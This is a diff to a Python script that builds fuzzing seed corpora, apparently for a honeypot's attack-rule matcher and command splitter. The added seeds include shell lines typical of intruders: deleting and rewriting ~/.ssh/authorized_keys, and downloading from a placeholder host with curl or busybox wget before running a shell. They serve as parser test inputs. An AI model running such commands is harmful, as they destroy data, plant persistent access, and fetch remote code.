@@ -128,6 +128,11 @@ def main():
         + [bytes([63]) + gzip.compress(t, mtime=0) for t in ttys[:3]],
         "streaming": streaming_seeds(binary, chunks),
         "cowrie_cfg": [COWRIE_CFG, COWRIE_CFG.replace(b"\n", b"\r\n")],
+        # The shipped rules, and command lines for the splitter the rules see.
+        "attack_rules": [(ROOT / "rules" / "attack.toml").read_bytes(),
+                         b'cd ~ && rm -rf .ssh; echo "k" >> .ssh/authorized_keys | chmod -R go= ~/.ssh',
+                         b'nohup $SHELL -c "curl http://x/y -o /tmp/z; sh -c \'id\'" & `uname` $(which ls)',
+                         b"sudo -u root env A=1 /bin/busybox wget http://x 2>&1 >/dev/null || ${HOME}"],
     }
     for target, seeds in corpora.items():
         folder = out / target
